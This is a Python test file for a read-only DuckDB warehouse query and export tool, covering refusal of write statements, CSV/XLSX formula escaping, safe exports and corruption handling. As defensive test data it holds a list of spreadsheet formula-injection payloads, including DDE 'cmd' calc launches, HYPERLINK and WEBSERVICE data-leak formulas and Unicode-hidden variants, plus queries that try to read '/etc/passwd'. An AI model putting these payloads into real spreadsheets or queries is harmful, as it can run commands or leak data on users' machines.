"""Questions to the published warehouse: reading only, and answers that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
import multiprocessing
import os
import random
import re
import zipfile
from concurrent.futures import ProcessPoolExecutor
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from warehouse.answer_files import safe_cell
from warehouse.errors import WarehouseError
from warehouse.publish import publish
from warehouse.query import Answer, export_query, run_query, write_csv

# HARDENING X2: what a spreadsheet runs, and the ways to hide it from a look at the first letter.
_BARE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?"&A1;"open")', "=IMPORTXML(A1,A2)", "=A1", "-a", "+a",
    "=WEBSERVICE(A1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
]  # fmt: skip
_BEFORE = [
    " ", "\t", "\r", "\n", "\x00", "\x0b", "\x1f", "\u00a0", "\u200b", "\u200e", "\u202e", "\u2028", "\u2060", "\u3000",
    "\ufeff", "\ufeff ",
]  # fmt: skip
_LINES = ["\t=1", "\r=1", "\n=1", "\ttext", "\rtext", "\ntext"]
FORMULAS = [*_BARE, *(mark + lead for mark in _BEFORE for lead in ("=1+1", "@SUM(A1)", "-a")), *_LINES]
# Where the list separator is `;`, a cell begins in the middle of our line.
INNER = [
    "a;=1+1",
    "a; =1+1",
    "a\t@SUM(A1)",
    "a\n=1+1",
    'a;"=1+1"',
    "a;\u200b=1+1",
    "a\r\n+cmd|' /C calc'!A0",
    "a;＝1+1",
]


@pytest.fixture
def small(tmp_path: Path) -> Path:
    path = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(path)) as connection:
        connection.execute("CREATE TABLE core_source AS SELECT 'a' AS source_id, 3 AS n UNION ALL SELECT 'б', -4")
    return path


def test_a_question_and_its_answer(small: Path) -> None:
    answer = run_query(small, "SELECT source_id, n FROM core_source ORDER BY n;")
    assert answer == Answer(("source_id", "n"), [("б", -4), ("a", 3)])
    assert run_query(small, "DESCRIBE core_source").rows[0][0] == "source_id"
    assert run_query(small, "FROM core_source").columns == ("source_id", "n")


@pytest.mark.parametrize(
    ("sql", "message"),
    [
        ("DELETE FROM core_source", "only reading is possible here, not DELETE"),
        ("CREATE TABLE t AS SELECT 1", "only reading is possible here, not CREATE"),
        ("ATTACH '/tmp/x.duckdb'", "only reading is possible here, not ATTACH"),
        ("COPY core_source TO '/tmp/x.csv'", "only reading is possible here, not COPY"),
        ("INSTALL httpfs", "only reading is possible here, not LOAD"),
        ("SET enable_external_access = true", "only reading is possible here, not SET"),
        ("SELECT * FROM '/etc/passwd'", "the query was not understood: "),
        ("SELECT * FROM read_csv('/etc/passwd')", "the query was not understood: "),
        ("SELECT content FROM read_text('/etc/hostname')", "the query was not understood: "),
        ("SELECT 1; SELECT 2", "a query is one statement, these are 2"),
        ("", "a query is one statement, these are 0"),
        ("SELEKT 1", "the query was not understood: Parser Error"),
        ("SELECT nothing FROM core_source", "the query was not understood: Binder Error"),
    ],
)
def test_writes_files_and_nonsense_are_one_sentence(small: Path, sql: str, message: str) -> None:
    with pytest.raises(WarehouseError) as caught:
        run_query(small, sql)
    assert str(caught.value).startswith(message)
    assert "\n" not in str(caught.value)


def test_no_warehouse_and_a_broken_one_are_one_sentence(tmp_path: Path) -> None:
    with pytest.raises(WarehouseError, match=r"is not there yet; `shanyraq build` makes it"):
        run_query(tmp_path / "no.duckdb", "SELECT 1")
    (tmp_path / "broken.duckdb").write_bytes(b"not a database at all" * 1000)
    with pytest.raises(WarehouseError, match=r"cannot be read .*; `shanyraq publish` puts a whole copy there"):
        run_query(tmp_path / "broken.duckdb", "SELECT 1")


def test_sixty_leads_at_least() -> None:
    assert len(set(FORMULAS)) >= 60


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_open_as_text(text: str) -> None:
    shown = safe_cell(text)
    assert shown.startswith("'")
    assert shown.replace("'", "") == text.replace("'", "")


def pieces(line: str, separator: str) -> list[str]:
    """Cells as a spreadsheet with this list separator sees them: quotes inside a cell are letters."""
    return re.split(rf"[{separator}\r\n]", line)


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize("text", [*FORMULAS, *INNER])
def test_no_formula_begins_a_cell_with_another_separator(text: str, separator: str) -> None:
    written = io.StringIO()
    write_csv(Answer(("first", "second"), [("Тараз", text)]), written)
    lead = re.compile(r"[\s\x00-\x20\u200b-\u202e\u2060\ufeff\"]*[=+\-@＝＋－＠]")
    assert not [piece for piece in pieces(written.getvalue(), separator) if lead.match(piece)]


@given(st.text())
def test_no_cell_starts_as_a_formula(text: str) -> None:
    shown = safe_cell(text)
    assert shown.replace("'", "") == text.replace("'", "")
    assert shown.lstrip()[:1] not in ("=", "@")


@pytest.mark.parametrize("value", [-4, -4.5, "-4", "+7.5", 3, "KZ-31", "2026-W22", "a=b", "1e5", None])
def test_numbers_and_words_stay(value: object) -> None:
    assert safe_cell(value) == ("" if value is None else str(value))


ODD = "SELECT '=1+1' AS name, -4 AS n, [1, 2] AS odd UNION ALL SELECT 'Тараз', NULL, []"


def test_exports(small: Path, tmp_path: Path) -> None:
    assert export_query(small, ODD, tmp_path / "a.csv") == 2
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbfname,n,odd\n")
    with (tmp_path / "a.csv").open(encoding="utf-8-sig") as handle:
        assert list(csv.reader(handle)) == [["name", "n", "odd"], ["'=1+1", "-4", "[1, 2]"], ["Тараз", "", "[]"]]
    assert export_query(small, ODD, tmp_path / "a.parquet") == 2
    table = pq.read_table(tmp_path / "a.parquet", page_checksum_verification=True)
    assert table.to_pylist()[0] == {"name": "=1+1", "n": -4, "odd": [1, 2]}
    assert str(table.schema.field("n").type) == "int32", "types are the warehouse's, whatever the first row holds"
    with pytest.raises(WarehouseError, match=r"exports are \.csv, \.xlsx or \.parquet"):
        export_query(small, ODD, tmp_path / "a.xls")
    with pytest.raises(WarehouseError, match="the answer has the column a twice; rename one with AS"):
        export_query(small, "SELECT 1 AS a, 2 AS a", tmp_path / "a.parquet")


def test_an_export_that_fails_leaves_the_old_file(small: Path, tmp_path: Path) -> None:
    target = tmp_path / "a.csv"
    export_query(small, "SELECT 1 AS one", target)
    before = target.read_bytes()
    late = "SELECT CASE WHEN range = 199999 THEN error('late') ELSE range END AS n FROM range(200000)"
    for ending in (".csv", ".parquet"):
        with pytest.raises(WarehouseError):
            export_query(small, late, target.with_suffix(ending))
    assert target.read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.csv", "warehouse.duckdb"]


def test_a_limit_is_told_and_spares_memory(small: Path) -> None:
    answer = run_query(small, "SELECT range AS n FROM range(100000000)", limit=3)
    assert (answer.rows, answer.more) == ([(0,), (1,), (2,)], True)
    assert not run_query(small, "FROM core_source", limit=2).more


def sheet_rows(path: Path) -> list[list[Any]]:
    """Cells of a sheet, each with its kind: `s` text, `n` number or date, `f` formula."""
    openpyxl = pytest.importorskip("openpyxl", reason="XLSX needs openpyxl")
    book = openpyxl.load_workbook(path)
    return [[(cell.value, cell.data_type, cell.quotePrefix) for cell in row] for row in book.active.iter_rows()]


def test_a_sheet_holds_text_as_text(small: Path, tmp_path: Path) -> None:
    pytest.importorskip("openpyxl", reason="XLSX needs openpyxl")
    texts = [*FORMULAS, *INNER, "#N/A", "=", "plain", "Тараз"]
    values = ", ".join(f"({number}, '{text.replace(chr(39), chr(39) * 2)}')" for number, text in enumerate(texts))
    asked = f"SELECT text FROM (VALUES {values}) AS t (number, text) ORDER BY number"
    assert export_query(small, asked.replace("\x00", "\x01"), tmp_path / "a.xlsx") == len(texts)
    rows = [row[0] for row in sheet_rows(tmp_path / "a.xlsx")[1:]]
    with zipfile.ZipFile(tmp_path / "a.xlsx") as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    for text, (value, kind, guarded) in zip(texts, rows, strict=True):
        clean = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)
        assert "".join(value.split("\r")) == "".join(clean.split("\r"))
        assert guarded == bool(text not in ("plain", "Тараз", *INNER))
        assert kind != "f" or guarded, "openpyxl guesses a formula from the text; the file says it is text"


DAY = datetime(2026, 5, 22)  # noqa: DTZ001 - sheets know no zone


def test_a_sheet_keeps_numbers_days_and_moments(small: Path, tmp_path: Path) -> None:
    pytest.importorskip("openpyxl", reason="XLSX needs openpyxl")
    asked = (
        "SELECT 3 AS n, -4.5::DOUBLE AS x, true AS yes, DATE '2026-05-22' AS day, NULL AS nothing, [1, 2] AS list, "
        "TIMESTAMPTZ '2026-05-22 12:00:00+05' AS moment, 9007199254740993 AS large, 'nan'::DOUBLE AS odd"
    )
    export_query(small, asked, tmp_path / "a.xlsx")
    [_, row] = sheet_rows(tmp_path / "a.xlsx")
    assert [value for value, _, _ in row] == [
        3, -4.5, True, DAY, None, "[1, 2]", DAY.replace(hour=12), "9007199254740993", "nan",
    ]  # fmt: skip


def test_what_a_sheet_cannot_hold_is_refused(small: Path, tmp_path: Path) -> None:
    pytest.importorskip("openpyxl", reason="XLSX needs openpyxl")
    with pytest.raises(
        WarehouseError, match=r"a text of 40000 characters, a cell holds 32767; write \.parquet or \.csv"
    ):
        export_query(small, "SELECT repeat('a', 40000) AS text", tmp_path / "a.xlsx")
    assert not (tmp_path / "a.xlsx").exists()


def test_a_flipped_bit_is_an_error_and_never_another_answer(telling: Path, tmp_path: Path) -> None:
    """HARDENING P6: 200 flips with `make hardening` (SHANYRAQ_KILLS), a tenth of them in `make test`."""
    asked = "SELECT md5(string_agg(CAST(t AS VARCHAR), '|' ORDER BY CAST(t AS VARCHAR))) FROM out_indicator_week AS t"
    whole = telling.read_bytes()
    right = run_query(telling, asked)
    flips = int(os.environ.get("SHANYRAQ_KILLS", "20"))
    chance = random.Random(11)
    broken = tmp_path / "warehouse.duckdb"
    seen = 0
    for _ in range(flips):
        damaged = bytearray(whole)
        damaged[chance.randrange(len(whole))] ^= 1 << chance.randrange(8)
        broken.write_bytes(damaged)
        try:
            assert run_query(broken, asked) == right
        except WarehouseError as error:
            seen += 1
            assert "cannot be read" in str(error) or "was not understood" in str(error)
    for length in (0, 1, 4096, len(whole) // 2, len(whole) - 4096):
        broken.write_bytes(whole[:length])
        try:
            assert run_query(broken, asked) == right
        except WarehouseError:
            seen += 1
    assert seen >= 4


def numbers_seen(path: Path, times: int) -> set[tuple[int, int, int]]:
    """What one reader sees, in a process of its own as analysts are."""
    asked = "SELECT min(n), max(n), count(*) FROM (FROM out_a UNION ALL FROM out_b)"
    return {row for _ in range(times) for row in run_query(path, asked).rows}


def test_readers_see_one_publication_or_the_other_never_a_mixture(tmp_path: Path) -> None:
    """HARDENING P5 in small: eight readers (two in `make test`) while one publishes; an answer is all of one number."""
    crowd = 8 if "SHANYRAQ_KILLS" in os.environ else 2
    target = tmp_path / "warehouse.duckdb"

    def publish_number(number: int) -> None:
        with duckdb.connect() as build:
            build.execute(f"CREATE TABLE out_a AS SELECT {number} AS n FROM range(2000)")
            build.execute("CREATE TABLE out_b AS FROM out_a")
            build.execute("CREATE TABLE column_doc (table_name VARCHAR, column_name VARCHAR, description VARCHAR)")
            publish(build, target)

    publish_number(0)
    with ProcessPoolExecutor(crowd, mp_context=multiprocessing.get_context("spawn")) as pool:
        readers = [pool.submit(numbers_seen, target, 15) for _ in range(crowd)]
        number = 0
        while not all(reader.done() for reader in readers):
            number += 1
            publish_number(number)
        answers = set().union(*(reader.result() for reader in readers))
    assert all(low == high and count == 4000 for low, high, count in answers), answers
    assert len(answers) > 1, "the readers saw several publications"
